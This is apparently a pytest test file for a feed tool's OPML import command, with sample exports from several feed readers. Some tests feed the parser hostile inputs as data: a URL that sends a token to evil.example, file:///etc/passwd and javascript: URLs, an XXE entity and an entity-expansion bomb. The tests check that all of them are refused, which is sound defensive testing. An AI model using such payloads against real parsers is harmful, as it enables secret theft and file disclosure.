"""`feedhub import-opml FILE` (issue #13, item 11): a feed reader's OPML export
becomes sources and categories in the config, whose comments and order stay.

The OPML documents are written here, one per dialect, after the exports of
Miniflux (internal/reader/opml), FreshRSS (app/views/helpers/export/opml.phtml),
Inoreader and Feedly (exports published in public repositories), newsboat
(src/opml.cpp: -e and --export-to-opml2) and lemon24/reader (reader.opml.unparse).
When newsboat is installed (scripts/test installs it), its own export is
imported too.
"""

from __future__ import annotations

import difflib
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from feedhub.config import load_config
from feedhub.errors import FeedhubError
from feedhub.config.opml_document import OpmlError, parse_opml
from feedhub.config.opml_import import import_opml, report_lines
from feedhub.config.opml_plan import (
    DEFAULT_CATEGORY,
    ExistingConfig,
    ExistingSource,
    find_feeds,
    plan_import,
    unique_name,
    url_key,
)

REPO = Path(__file__).resolve().parents[1]

# --- the dialects -------------------------------------------------------------

# Miniflux: categories sorted by name, feeds with title and text (equal),
# xmlUrl, htmlUrl, description; no type before 2.2.x; its own settings in a
# namespace.
MINIFLUX = """<?xml version="1.0" encoding="UTF-8"?>
<opml version="2.0" xmlns:miniflux="https://miniflux.app/opml">
    <head>
        <title>Miniflux</title>
        <dateCreated>Sat, 02 May 2026 10:00:00 UTC</dateCreated>
    </head>
    <body>
        <outline text="Linux">
            <outline title="LWN.net" text="LWN.net" xmlUrl="https://lwn.net/headlines/rss" htmlUrl="https://lwn.net" description="News from the source"></outline>
            <outline title="Phoronix" text="Phoronix" xmlUrl="https://www.phoronix.com/rss.php" htmlUrl="https://www.phoronix.com/" miniflux:crawler="true" miniflux:userAgent="Mozilla/5.0"></outline>
        </outline>
        <outline text="新闻">
            <outline title="联合早报 即时" text="联合早报 即时" type="rss" xmlUrl="https://www.zaobao.com.sg/realtime/china/feed" htmlUrl="https://www.zaobao.com.sg/"></outline>
        </outline>
    </body>
</opml>
"""

# FreshRSS: categories are outlines with text only; feeds have text, type="rss",
# xmlUrl, htmlUrl, description and frss: attributes; web-scraping sources have
# types of their own; feeds exported alone sit at the top level.
FRESHRSS = """<?xml version="1.0" encoding="UTF-8"?>
<opml xmlns:frss="https://freshrss.org/opml" version="2.0">
  <head>
    <title>FreshRSS</title>
    <dateCreated>Fri, 20 Mar 2026 22:25:59 +0530</dateCreated>
  </head>
  <body>
    <outline text="Uncategorized">
      <outline text="Framablog" type="rss" xmlUrl="https://framablog.org/feed/" htmlUrl="https://framablog.org/" description="La route est longue mais la voie est libre…"/>
    </outline>
    <outline text="YouTube">
      <outline text="bigboxSWE" type="rss" xmlUrl="https://www.youtube.com/feeds/videos.xml?channel_id=UC5--wS0Ljbin1TjWQX6eafA" htmlUrl="https://www.youtube.com/@bigboxSWE" frss:cssFullContent="article" frss:filtersActionRead="intitle:Shorts"/>
      <outline text="Example scraping" type="HTML+XPath" xmlUrl="https://www.example.net/page.html" htmlUrl="https://www.example.net/page.html" frss:xPathItem="//article" frss:xPathItemTitle="descendant::h2"/>
      <outline text="JSON Feed" type="JSONFeed" xmlUrl="https://www.jsonfeed.org/feed.json" htmlUrl="https://www.jsonfeed.org/"/>
    </outline>
    <outline text="Le Monde" type="rss" xmlUrl="https://www.lemonde.fr/rss/une.xml" htmlUrl="https://www.lemonde.fr/"/>
  </body>
</opml>
"""

# Inoreader: folders and feeds both have text and title; some feeds at the
# top level; the same name in two folders happens (two "Business Insider" feeds).
INOREADER = """<?xml version="1.0" encoding="UTF-8"?>
<opml version="1.0">
  <head>
    <title>Subscriptions from Inoreader [https://www.inoreader.com]</title>
  </head>
  <body>
    <outline text="Guyskk的博客" title="Guyskk的博客" type="rss" xmlUrl="http://blog.guyskk.com/feed.xml" htmlUrl="http://blog.guyskk.com/"/>
    <outline text="设计" title="设计">
      <outline text="腾讯CDC" title="腾讯CDC" type="rss" xmlUrl="http://cdc.tencent.com/feed/" htmlUrl="http://cdc.tencent.com/"/>
      <outline text="Rologo 标志共和国" title="Rologo 标志共和国" type="rss" xmlUrl="http://www.rologo.com/feed" htmlUrl="http://www.rologo.com/"/>
    </outline>
    <outline text="Science" title="Science">
      <outline text="Business Insider" title="Business Insider" type="rss" xmlUrl="https://feeds.feedburner.com/businessinsider/science" htmlUrl="https://www.businessinsider.com/"/>
    </outline>
    <outline text="Tech | News" title="Tech | News">
      <outline text="Business Insider" title="Business Insider" type="rss" xmlUrl="https://feeds.feedburner.com/typepad/alleyinsider/silicon_alley_insider" htmlUrl="https://www.businessinsider.com/"/>
      <outline text="NYT &gt; Technology" title="NYT &gt; Technology" type="rss" xmlUrl="https://rss.nytimes.com/services/xml/rss/nyt/Technology.xml" htmlUrl="https://www.nytimes.com/section/technology"/>
    </outline>
  </body>
</opml>
"""

# Feedly: a blank line after the declaration, folders with text and title,
# type="rss" first, trailing spaces left in titles, and a feed listed once in
# each folder it is in.
FEEDLY = """<?xml version="1.0" encoding="UTF-8"?>

<opml version="1.0">
    <head>
        <title>Alice subscriptions in feedly Cloud</title>
    </head>
    <body>
        <outline text="Every Day" title="Every Day">
            <outline type="rss" text="High Scalability" title="High Scalability" xmlUrl="http://feeds.feedburner.com/HighScalability" htmlUrl="http://highscalability.com/blog/"/>
            <outline type="rss" text="阮一峰的网络日志" title="阮一峰的网络日志" xmlUrl="http://feeds.feedburner.com/ruanyifeng" htmlUrl="http://www.ruanyifeng.com/blog/"/>
            <outline type="rss" text="The Atlantic  " title="The Atlantic  " xmlUrl="https://www.theatlantic.com/feed/all/" htmlUrl="https://www.theatlantic.com/"/>
        </outline>
        <outline text="Blog" title="Blog">
            <outline type="rss" text="阮一峰的网络日志" title="阮一峰的网络日志" xmlUrl="http://feeds.feedburner.com/ruanyifeng" htmlUrl="http://www.ruanyifeng.com/blog/"/>
            <outline type="rss" text="🍺 Brew Notes" title="🍺 Brew Notes" xmlUrl="https://brew.example.org/atom.xml" htmlUrl="https://brew.example.org/"/>
        </outline>
    </body>
</opml>
"""

# newsboat -e (2.21, Debian 12's): a flat list, title only (empty for a feed
# never fetched), htmlUrl empty.
NEWSBOAT = """<?xml version="1.0"?>
<opml version="1.0">
  <head>
    <title>newsboat - Exported Feeds</title>
  </head>
  <body>
    <outline type="rss" xmlUrl="https://example.org/feed.xml" htmlUrl="" title="Example Blog"/>
    <outline type="rss" xmlUrl="http://example.com/rss" htmlUrl="" title=""/>
    <outline type="rss" xmlUrl="https://lwn.net/headlines/rss" htmlUrl="https://lwn.net" title="LWN.net"/>
  </body>
</opml>
"""

# newsboat --export-to-opml2 (2.32+): title and text, tags in `category`.
NEWSBOAT_OPML2 = """<?xml version="1.0"?>
<opml version="2.0"><head><title>Newsboat - Exported Feeds</title></head><body><outline type="rss" xmlUrl="https://example.com/feed1.xml" htmlUrl="https://example.com/feed1/" title="Feed 1" text="Feed 1" category=""/><outline type="rss" xmlUrl="https://example.com/feed2.xml" htmlUrl="https://example.com/feed2/" title="Feed 2" text="Feed 2" category="tag,tag_with_commas,tag/with/slashes,tag with spaces"/></body></opml>
"""

# lemon24/reader (reader.opml.unparse): single-quoted declaration, a comment,
# a flat list; a feed without a title has neither title nor text.
READER = """<?xml version='1.0' encoding='utf-8'?>
<opml version="2.0">
  <!-- generated by https://github.com/lemon24/reader -->
  <head>
    <title>reader feeds</title>
    <dateCreated>Fri, 01 May 2026 00:00:00 +0000</dateCreated>
  </head>
  <body>
    <outline type="rss" title="Hacker News" text="Hacker News" xmlUrl="https://news.ycombinator.com/rss" htmlUrl="https://news.ycombinator.com/" description="Links for the intellectually curious" />
    <outline type="rss" xmlUrl="https://blog.example.net/index.xml" />
  </body>
</opml>
"""

# (name, url, categories) of the sources each dialect gives on an empty config;
# then the skipped URLs.
EXPECTED = {
    "miniflux": (MINIFLUX, [
        ("LWN.net", "https://lwn.net/headlines/rss", ("Linux",)),
        ("Phoronix", "https://www.phoronix.com/rss.php", ("Linux",)),
        ("联合早报 即时", "https://www.zaobao.com.sg/realtime/china/feed", ("新闻",)),
    ], []),
    "freshrss": (FRESHRSS, [
        ("Framablog", "https://framablog.org/feed/", ("Uncategorized",)),
        ("bigboxSWE", "https://www.youtube.com/feeds/videos.xml?channel_id=UC5--wS0Ljbin1TjWQX6eafA", ("YouTube",)),
        ("JSON Feed", "https://www.jsonfeed.org/feed.json", ("YouTube",)),
        ("Le Monde", "https://www.lemonde.fr/rss/une.xml", ("Uncategorized",)),
    ], ["https://www.example.net/page.html"]),
    "inoreader": (INOREADER, [
        ("Guyskk的博客", "http://blog.guyskk.com/feed.xml", ("Uncategorized",)),
        ("腾讯CDC", "http://cdc.tencent.com/feed/", ("设计",)),
        ("Rologo 标志共和国", "http://www.rologo.com/feed", ("设计",)),
        ("Business Insider", "https://feeds.feedburner.com/businessinsider/science", ("Science",)),
        ("Business Insider (feeds.feedburner.com)",
         "https://feeds.feedburner.com/typepad/alleyinsider/silicon_alley_insider", ("Tech | News",)),
        ("NYT > Technology", "https://rss.nytimes.com/services/xml/rss/nyt/Technology.xml", ("Tech | News",)),
    ], []),
    "feedly": (FEEDLY, [
        ("High Scalability", "http://feeds.feedburner.com/HighScalability", ("Every Day",)),
        ("阮一峰的网络日志", "http://feeds.feedburner.com/ruanyifeng", ("Every Day", "Blog")),
        ("The Atlantic", "https://www.theatlantic.com/feed/all/", ("Every Day",)),
        ("🍺 Brew Notes", "https://brew.example.org/atom.xml", ("Blog",)),
    ], []),
    "newsboat": (NEWSBOAT, [
        ("Example Blog", "https://example.org/feed.xml", ("Uncategorized",)),
        ("example.com", "http://example.com/rss", ("Uncategorized",)),
        ("LWN.net", "https://lwn.net/headlines/rss", ("Uncategorized",)),
    ], []),
    "newsboat-opml2": (NEWSBOAT_OPML2, [
        ("Feed 1", "https://example.com/feed1.xml", ("Uncategorized",)),
        ("Feed 2", "https://example.com/feed2.xml",
         ("tag", "tag_with_commas", "tag / with / slashes", "tag with spaces")),
    ], []),
    "reader": (READER, [
        ("Hacker News", "https://news.ycombinator.com/rss", ("Uncategorized",)),
        ("blog.example.net", "https://blog.example.net/index.xml", ("Uncategorized",)),
    ], []),
}

EMPTY = ExistingConfig(sources=(), categories=())

# A config as a user writes one: comments everywhere, a category with a slug.
CONFIG = """\
# My feedhub: what I read every morning.
site:
  title: Morning news        # shown in feed titles
  language: en

storage:
  url: sqlite:///state/feedhub.db   # beside this file

categories:
  # the ones I care about most
  - name: Linux
    slug: gnu-linux          # kept short
  - name: World
# (the rest are made from the sources)

sources:
  # ---- kernel ----
  - name: LWN.net
    url: https://lwn.net/headlines/rss
    categories: [Linux]
    interval: 1h             # it is weekly anyway

  - name: Reuters World
    url: https://example.com/reuters/world/
    categories: [World]
  # - name: disabled for now
  #   url: https://example.com/old.xml
"""


# --- helpers --------------------------------------------------------------------


def feedhub(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess:
    """The real command line, in a process of its own."""
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    return subprocess.run([sys.executable, "-m", "feedhub", *args], capture_output=True, text=True,
                          cwd=cwd, env=env, timeout=120)


def write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def assert_only_added(before: str, after: str) -> list[str]:
    """Every line of `before` is still in `after`, in order and unchanged;
    returns the added lines."""
    old, new = before.splitlines(), after.splitlines()
    added = []
    for op, i1, i2, j1, j2 in difflib.SequenceMatcher(a=old, b=new, autojunk=False).get_opcodes():
        assert op in ("equal", "insert"), f"{op}: {old[i1:i2]} -> {new[j1:j2]}"
        added += new[j1:j2]
    return added


def comment_lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if "#" in line]


def sources_of(config_path: Path) -> dict[str, tuple[str, tuple[str, ...]]]:
    config = load_config(config_path)
    return {s.name: (s.url, s.categories) for s in config.sources}


# --- the dialects, on the functions -------------------------------------------


@pytest.mark.parametrize("dialect", sorted(EXPECTED))
def test_each_dialect_gives_its_feeds_folders_and_names(dialect):
    document, expected, skipped = EXPECTED[dialect]
    plan = plan_import(parse_opml(document.encode("utf-8")), EMPTY)
    assert [(s.name, s.url, s.categories) for s in plan.sources] == expected
    assert [s.url for s in plan.skipped] == skipped
    # Every category the new sources use is to be declared, once, in order of use.
    used = list(dict.fromkeys(c for s in plan.sources for c in s.categories))
    assert list(plan.categories) == used


def test_freshrss_scraping_sources_are_reported_not_imported():
    plan = plan_import(parse_opml(FRESHRSS.encode()), EMPTY)
    (skipped,) = plan.skipped
    assert skipped.name == "Example scraping" and not skipped.already
    assert 'type "HTML+XPath" is not a feed' in skipped.reason
    assert "- skipped Example scraping  https://www.example.net/page.html: type \"HTML+XPath\"" in "\n".join(
        report_lines(plan))


def test_folders_are_outlines_without_xml_url_whatever_their_type():
    # Flym and others export folders with type="rss": without an xmlUrl an
    # outline is a folder all the same.
    document = b"""<opml version="2.0"><body>
      <outline type="rss" title="tech">
        <outline type="rss" title="MIT Technology Review" xmlUrl="http://www.technologyreview.com/rss/rss.aspx"/>
      </outline></body></opml>"""
    plan = plan_import(parse_opml(document), EMPTY)
    assert [(s.name, s.categories) for s in plan.sources] == [("MIT Technology Review", ("tech",))]


def test_nested_folders_become_one_category_per_path():
    document = """<opml version="1.0"><body>
      <outline text="Tech">
        <outline text="Linux">
          <outline text="LWN" type="rss" xmlUrl="https://lwn.net/headlines/rss"/>
          <outline text="">
            <outline text="Kernel Planet" type="rss" xmlUrl="https://planet.kernel.org/rss20.xml"/>
          </outline>
        </outline>
        <outline text="Ars" type="rss" xmlUrl="https://feeds.arstechnica.com/arstechnica/index"/>
      </outline>
      <outline title="Finance  &amp; Markets">
        <outline text="Bonds"><outline text="FT bonds" type="rss" xmlUrl="https://www.ft.com/bonds?format=rss"/></outline>
      </outline></body></opml>""".encode()
    plan = plan_import(parse_opml(document), EMPTY)
    assert [(s.name, s.categories) for s in plan.sources] == [
        ("LWN", ("Tech / Linux",)),
        ("Kernel Planet", ("Tech / Linux",)),  # a folder with no name adds no level
        ("Ars", ("Tech",)),
        ("FT bonds", ("Finance & Markets / Bonds",)),
    ]
    assert plan.categories == ("Tech / Linux", "Tech", "Finance & Markets / Bonds")


def test_feeds_in_no_folder_go_to_the_default_or_the_given_category():
    plan = plan_import(parse_opml(READER.encode()), EMPTY)
    assert {s.categories for s in plan.sources} == {(DEFAULT_CATEGORY,)}
    assert plan.categories == (DEFAULT_CATEGORY,)
    plan = plan_import(parse_opml(READER.encode()), EMPTY, default_category="  Reading   list ")
    assert {s.categories for s in plan.sources} == {("Reading list",)}
    # A category the config has already, in another case, is that category.
    existing = ExistingConfig((), ("Reading List",))
    plan = plan_import(parse_opml(READER.encode()), existing, default_category="reading list")
    assert {s.categories for s in plan.sources} == {("Reading List",)} and plan.categories == ()
    with pytest.raises(FeedhubError, match="--category: give a category name"):
        plan_import(parse_opml(READER.encode()), EMPTY, default_category="   ")


def test_a_folder_matches_an_existing_category_in_any_case_and_width():
    document = """<opml version="1.0"><body>
      <outline text="linux"><outline text="A" type="rss" xmlUrl="https://a.example/feed"/></outline>
      <outline text="ＡＩ"><outline text="B" type="rss" xmlUrl="https://b.example/feed"/></outline>
      <outline text="Sports"><outline text="C" type="rss" xmlUrl="https://c.example/feed"/></outline>
    </body></opml>""".encode()
    existing = ExistingConfig(
        (ExistingSource("X", "https://x.example/", ("AI",)), ExistingSource("Sports", "https://y.example/")),
        ("Linux",))
    plan = plan_import(parse_opml(document), existing)
    assert [s.categories for s in plan.sources] == [("Linux",), ("AI",), ("Sports",)]
    # "AI" was only named by a source and "Sports" is a source's own category:
    # both get declared now that imported sources use them.
    assert plan.categories == ("AI", "Sports")


@pytest.mark.parametrize("config_url, opml_url", [
    ("https://example.com/feed", "https://example.com/feed/"),
    ("https://example.com/feed/", "HTTPS://Example.COM/feed"),
    ("http://example.com/feed", "http://example.com:80/feed"),
    ("https://example.com", "https://example.com/"),
    ("https://user:secret@example.com/feed", "https://example.com/feed#top"),
    ("https://example.com/feed?a=1", " https://example.com/feed?a=1 "),
])
def test_the_same_url_modulo_trailing_slash_and_case_is_the_same_feed(config_url, opml_url):
    assert url_key(config_url) == url_key(opml_url)


@pytest.mark.parametrize("a, b", [
    ("http://example.com/feed", "https://example.com/feed"),  # another scheme may be another server
    ("https://example.com/Feed", "https://example.com/feed"),  # paths are case-sensitive
    ("https://example.com/feed?a=1", "https://example.com/feed?a=2"),
    ("https://example.com:8443/feed", "https://example.com/feed"),
])
def test_different_urls_stay_different(a, b):
    assert url_key(a) != url_key(b)


def test_feeds_already_in_the_config_are_skipped_and_reported():
    existing = ExistingConfig((ExistingSource("LWN (mine)", "HTTPS://LWN.net/headlines/rss/", ("Linux",)),), ("Linux",))
    plan = plan_import(parse_opml(MINIFLUX.encode()), existing)
    assert [s.name for s in plan.sources] == ["Phoronix", "联合早报 即时"]
    (skipped,) = plan.skipped
    assert skipped.already and skipped.reason == 'already in the config as "LWN (mine)"'
    assert '= skipped LWN.net  https://lwn.net/headlines/rss: already in the config as "LWN (mine)"' in report_lines(plan)
    assert plan.categories == ("新闻",)  # Linux is declared already


def test_duplicate_names_get_a_distinct_name():
    taken = {"Hacker News"}
    assert unique_name("Hacker News", "https://hnrss.org/frontpage", taken) == "Hacker News (hnrss.org)"
    taken.add("Hacker News (hnrss.org)")
    assert unique_name("Hacker News", "https://hnrss.org/newest", taken) == "Hacker News (2)"
    taken.add("Hacker News (2)")
    assert unique_name("Hacker News", "https://hnrss.org/best", taken) == "Hacker News (3)"

    existing = ExistingConfig((ExistingSource("Hacker News", "https://hnrss.org/frontpage"),), ())
    plan = plan_import(parse_opml(READER.encode()), existing)
    assert plan.sources[0].name == "Hacker News (news.ycombinator.com)"
    assert plan.sources[0].wanted_name == "Hacker News"
    assert '(renamed: "Hacker News" is taken)' in report_lines(plan)[1]


def test_hostile_outlines_are_left_out_or_defused():
    long_name = "N" * 5000
    document = f"""<opml version="2.0"><body>
      <outline text="secret" type="rss" xmlUrl="https://evil.example/?t=${{FEEDHUB_TOKEN}}"/>
      <outline text="local" type="rss" xmlUrl="file:///etc/passwd"/>
      <outline text="relative" type="rss" xmlUrl="../state/feedhub.db"/>
      <outline text="program" type="rss" xmlUrl="exec:~/bin/feed.sh"/>
      <outline text="js" type="rss" xmlUrl="javascript:alert(1)"/>
      <outline text="other OPML" type="include" url="https://evil.example/more.opml"/>
      <outline text="Costs in ${{HOME}}" type="rss" xmlUrl="https://ok.example/feed"/>
      <outline text="{long_name}" type="rss" xmlUrl="https://long.example/feed"/>
      <outline text="${{HOME}}"><outline text="x" type="rss" xmlUrl="https://x.example/feed"/></outline>
    </body></opml>""".encode()
    feeds, skipped = find_feeds(parse_opml(document).outlines)
    assert [f.url for f in feeds] == ["https://ok.example/feed", "https://long.example/feed", "https://x.example/feed"]
    reasons = {s.name: s.reason for s in skipped}
    assert "environment variable" in reasons["secret"]
    assert reasons["local"] == reasons["relative"] == reasons["program"] == reasons["js"] == "not an http(s) URL"
    assert "link, not a feed" in reasons["other OPML"]
    assert feeds[0].name == "Costs in $ {HOME}"  # no longer read as ${HOME}
    assert len(feeds[1].name) == 120 and feeds[1].name.endswith("…")
    assert feeds[2].folders == (("$ {HOME}",),)


@pytest.mark.parametrize("document, message", [
    (b"", "not a well-formed XML document"),
    (b"this is not XML at all", "not a well-formed XML document"),
    (b"<opml><body><outline text='x'></body></opml>", "not a well-formed XML document: mismatched tag"),
    (b'<?xml version="1.0"?><rss version="2.0"><channel/></rss>', "the root element is <rss>, not <opml>"),
    (b"<opml version='2.0'><head/></opml>", "it has no <body>"),
    (b'<!DOCTYPE opml [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
     b'<opml><body><outline text="&b;"/></body></opml>', "refused: the document declares XML entities"),
    (b'<!DOCTYPE opml [<!ENTITY x SYSTEM "file:///etc/passwd">]><opml><body><outline text="&x;"/></body></opml>',
     "refused"),
    (b"<opml><body>" + b"<outline text='f'>" * 100 + b"</outline>" * 100 + b"</body></opml>", "nested deeper"),
])
def test_malformed_or_hostile_opml_is_one_clear_error(document, message):
    with pytest.raises(OpmlError) as caught:
        parse_opml(document, "feeds.opml")
    assert str(caught.value).startswith("feeds.opml: ") and message in str(caught.value)
    assert "\n" not in str(caught.value)


# --- through the real command line ------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize("dialect", sorted(EXPECTED))
def test_cli_imports_each_dialect_keeping_comments_and_order(tmp_path, dialect):
    document, expected, _ = EXPECTED[dialect]
    opml = write(tmp_path / f"{dialect}.opml", document)
    config = write(tmp_path / "feedhub.yaml", CONFIG)
    run = feedhub("import-opml", str(opml), "--config", str(config))
    assert run.returncode == 0, run.stderr
    assert run.stderr == ""
    after = config.read_text(encoding="utf-8")
    added = assert_only_added(CONFIG, after)
    assert comment_lines(CONFIG) == [line for line in comment_lines(after) if line in CONFIG.splitlines()]
    assert f"  # imported from {dialect}.opml by feedhub import-opml" in added
    # The config names the new sources and declares their categories.
    sources = sources_of(config)
    already = {"https://lwn.net/headlines/rss"}  # in CONFIG as "LWN.net"
    for name, url, categories in expected:
        if url in already:
            assert f'= skipped {name}  {url}: already in the config as "LWN.net"' in run.stdout
            continue
        assert sources[name] == (url, categories), name
    declared = [c.name for c in load_config(config).categories]
    assert declared[:2] == ["Linux", "World"]
    for _, _, categories in expected:
        assert set(categories) <= set(declared)
    assert run.stdout.splitlines()[-1].startswith("feedhub: added ")
    # ... and `feedhub check-config` accepts it.
    check = feedhub("check-config", "--config", str(config))
    assert check.returncode == 0, check.stderr


@pytest.mark.slow
def test_cli_keeps_every_comment_of_the_bundled_configs(tmp_path):
    shutil.copytree(REPO / "config" / "samples", tmp_path / "samples")  # the demo's sources
    for bundled in ("demo.yaml", "feedhub.yaml"):
        original = (REPO / "config" / bundled).read_text(encoding="utf-8")
        config = write(tmp_path / bundled, original)
        opml = write(tmp_path / "feedly.opml", FEEDLY)
        run = feedhub("import-opml", str(opml), "--config", str(config))
        assert run.returncode == 0, run.stderr
        after = config.read_text(encoding="utf-8")
        added = assert_only_added(original, after)
        assert "  - name: Every Day" in added and "  - name: 🍺 Brew Notes" in added
        assert "    categories: [Every Day, Blog]" in added
        # The new categories join the list: right after its last entry, before
        # the comment lines that closed it.
        lines = after.splitlines()
        last_category = max(i for i, line in enumerate(lines) if line == "  - name: Blog")
        assert lines[last_category - 1] == "  - name: Every Day"
        assert lines.index("sources:") > last_category
        check = feedhub("check-config", "--config", str(config))
        assert check.returncode == 0, check.stderr


def test_cli_twice_adds_nothing_the_second_time(tmp_path):
    opml = write(tmp_path / "inoreader.opml", INOREADER)
    config = write(tmp_path / "feedhub.yaml", CONFIG)
    assert feedhub("import-opml", str(opml), "--config", str(config)).returncode == 0
    once = config.read_bytes()
    again = feedhub("import-opml", str(opml), "--config", str(config))
    assert again.returncode == 0
    assert config.read_bytes() == once
    assert again.stdout.count("= skipped ") == 6
    assert again.stdout.splitlines()[-1] == (
        f"feedhub: nothing to add from inoreader.opml; skipped 6 already in the config; {config} unchanged")


def test_cli_dry_run_changes_nothing_and_prints_the_change(tmp_path):
    opml = write(tmp_path / "miniflux.opml", MINIFLUX)
    config = write(tmp_path / "feedhub.yaml", CONFIG)
    before = config.stat()
    run = feedhub("import-opml", str(opml), "--config", str(config), "--dry-run")
    assert run.returncode == 0, run.stderr
    assert config.read_text(encoding="utf-8") == CONFIG and config.stat().st_mtime_ns == before.st_mtime_ns
    assert sorted(p.name for p in tmp_path.iterdir()) == ["feedhub.yaml", "miniflux.opml"]
    out = run.stdout
    # A unified diff of the config ...
    assert f"--- {config}\n+++ {config} (after import)\n" in out
    assert "+  - name: 新闻\n" in out
    assert "+  - name: Phoronix\n+    url: https://www.phoronix.com/rss.php\n+    categories: [Linux]\n" in out
    assert "\n   - name: World\n" in out  # context lines
    # ... then one line per decision and the summary.
    assert "+ category 新闻\n" in out and "+ source Phoronix  https://www.phoronix.com/rss.php  [Linux]\n" in out
    assert '= skipped LWN.net  https://lwn.net/headlines/rss: already in the config as "LWN.net"\n' in out
    assert out.splitlines()[-1] == (f"feedhub: would add 2 sources and 1 new category from miniflux.opml to {config}; "
                                    "skipped 1 already in the config (dry run: nothing written)")


def test_cli_category_option_names_the_category_of_feeds_in_no_folder(tmp_path):
    opml = write(tmp_path / "newsboat.opml", NEWSBOAT)
    config = write(tmp_path / "feedhub.yaml", CONFIG)
    run = feedhub("import-opml", str(opml), "--config", str(config), "--category", "world")
    assert run.returncode == 0, run.stderr
    sources = sources_of(config)
    # "world" is the config's "World": no new category.
    assert sources["Example Blog"] == ("https://example.org/feed.xml", ("World",))
    assert sources["example.com"] == ("http://example.com/rss", ("World",))
    assert "+ category" not in run.stdout
    assert [c.name for c in load_config(config).categories] == ["Linux", "World"]


def test_cli_non_ascii_names_are_written_as_text(tmp_path):
    opml = write(tmp_path / "inoreader.opml", INOREADER)
    config = write(tmp_path / "feedhub.yaml", CONFIG)
    assert feedhub("import-opml", str(opml), "--config", str(config)).returncode == 0
    text = config.read_text(encoding="utf-8")
    assert "  - name: 腾讯CDC\n" in text and "  - name: 设计\n" in text and "\\u" not in text
    assert "  - name: NYT > Technology\n" in text
    config_read = load_config(config)
    assert config_read.category("设计").slug == "sheji"
    assert config_read.category("Tech | News").slug == "tech-news"


def test_cli_adds_a_categories_section_when_the_config_has_none(tmp_path):
    original = """\
storage:
  url: sqlite:///state/feedhub.db

# what I read
sources:
  - name: Example
    url: https://example.com/feed.xml
"""
    config = write(tmp_path / "feedhub.yaml", original)
    opml = write(tmp_path / "feedly.opml", FEEDLY)
    run = feedhub("import-opml", str(opml), "--config", str(config))
    assert run.returncode == 0, run.stderr
    after = config.read_text(encoding="utf-8")
    assert_only_added(original, after)
    lines = after.splitlines()
    assert lines[lines.index("categories:") + 1:lines.index("categories:") + 3] == [
        "  - name: Every Day", "  - name: Blog"]
    # The comment about the sources still stands right above them.
    assert lines[lines.index("sources:") - 1] == "# what I read"
    assert feedhub("check-config", "--config", str(config)).returncode == 0


def test_a_config_without_a_list_gets_its_sources_categories_listed_too(tmp_path):
    # Its sources made their categories; once `categories:` lists some, a
    # source naming one it does not list is a mistake: so they are listed too.
    original = """\
sources:
  - name: Example
    url: https://example.com/feed.xml
    categories: [Local news, World]
"""
    existing = ExistingConfig((ExistingSource("Example", "https://example.com/feed.xml", ("Local news", "World")),), ())
    plan = plan_import(parse_opml(MINIFLUX.encode()), existing)
    assert plan.categories == ("Local news", "World", "Linux", "新闻")
    # Not with `implicit_categories: true`, nor when nothing is imported.
    plan = plan_import(parse_opml(MINIFLUX.encode()), ExistingConfig(existing.sources, (), implicit_categories=True))
    assert plan.categories == ("Linux", "新闻")
    assert plan_import(parse_opml(b"<opml><body/></opml>"), existing).categories == ()

    config = write(tmp_path / "feedhub.yaml", original)
    run = feedhub("import-opml", str(write(tmp_path / "miniflux.opml", MINIFLUX)), "--config", str(config))
    assert run.returncode == 0, run.stderr
    assert [c.name for c in load_config(config).categories][:4] == ["Local news", "World", "Linux", "新闻"]
    assert feedhub("check-config", "--config", str(config)).returncode == 0


@pytest.mark.parametrize("document", [
    b"<opml><body><outline text='x'></body></opml>",
    b'<?xml version="1.0"?><rss version="2.0"><channel/></rss>',
    b'<!DOCTYPE opml [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;&a;&a;">]><opml><body>&b;</body></opml>',
    b"\x00\x01\x02 binary",
])
def test_cli_malformed_opml_is_one_line_and_exit_1(tmp_path, document):
    opml = tmp_path / "broken.opml"
    opml.write_bytes(document)
    config = write(tmp_path / "feedhub.yaml", CONFIG)
    run = feedhub("import-opml", str(opml), "--config", str(config))
    assert run.returncode == 1
    assert run.stdout == ""
    assert len(run.stderr.splitlines()) == 1 and run.stderr.startswith(f"feedhub: error: {opml}: ")
    assert "Traceback" not in run.stderr
    assert config.read_text(encoding="utf-8") == CONFIG


def test_cli_missing_files_are_one_line_and_exit_1(tmp_path):
    config = write(tmp_path / "feedhub.yaml", CONFIG)
    run = feedhub("import-opml", str(tmp_path / "nowhere.opml"), "--config", str(config))
    assert (run.returncode, run.stderr) == (1, f"feedhub: error: {tmp_path / 'nowhere.opml'}: no such file\n")
    opml = write(tmp_path / "reader.opml", READER)
    run = feedhub("import-opml", str(opml), "--config", str(tmp_path / "none.yaml"))
    assert run.returncode == 1 and "no such file" in run.stderr and "Traceback" not in run.stderr


def test_cli_broken_yaml_is_refused_untouched(tmp_path):
    broken = CONFIG + "  - name: [unclosed\n"
    config = write(tmp_path / "feedhub.yaml", broken)
    opml = write(tmp_path / "reader.opml", READER)
    run = feedhub("import-opml", str(opml), "--config", str(config))
    assert run.returncode == 1 and "Traceback" not in run.stderr
    assert run.stderr.startswith("feedhub: ") and str(config) in run.stderr
    assert config.read_text(encoding="utf-8") == broken


def test_an_unset_variable_in_the_config_does_not_stop_the_import(tmp_path, monkeypatch):
    # The config's own problem (check-config reports it too) is noted; the
    # import adds no other.
    monkeypatch.delenv("FEEDHUB_TEST_UNSET_TOKEN", raising=False)
    original = CONFIG.replace("    categories: [World]\n",
                              '    categories: [World]\n    headers: {Authorization: "Bearer ${FEEDHUB_TEST_UNSET_TOKEN}"}\n')
    config = write(tmp_path / "feedhub.yaml", original)
    result = import_opml(write(tmp_path / "reader.opml", READER), config)
    assert result.written and len(result.earlier_problems) == 1
    assert "FEEDHUB_TEST_UNSET_TOKEN is not set" in result.earlier_problems[0]
    assert str(config) in result.earlier_problems[0]
    # Set, the config is valid with the new source. (In a process of its own:
    # a loaded secret is redacted from every later message of this one.)
    monkeypatch.setenv("FEEDHUB_TEST_UNSET_TOKEN", "token-for-the-import-test")
    check = feedhub("check-config", "--config", str(config))
    assert check.returncode == 0, check.stderr
    assert "name: Hacker News\n" in check.stdout


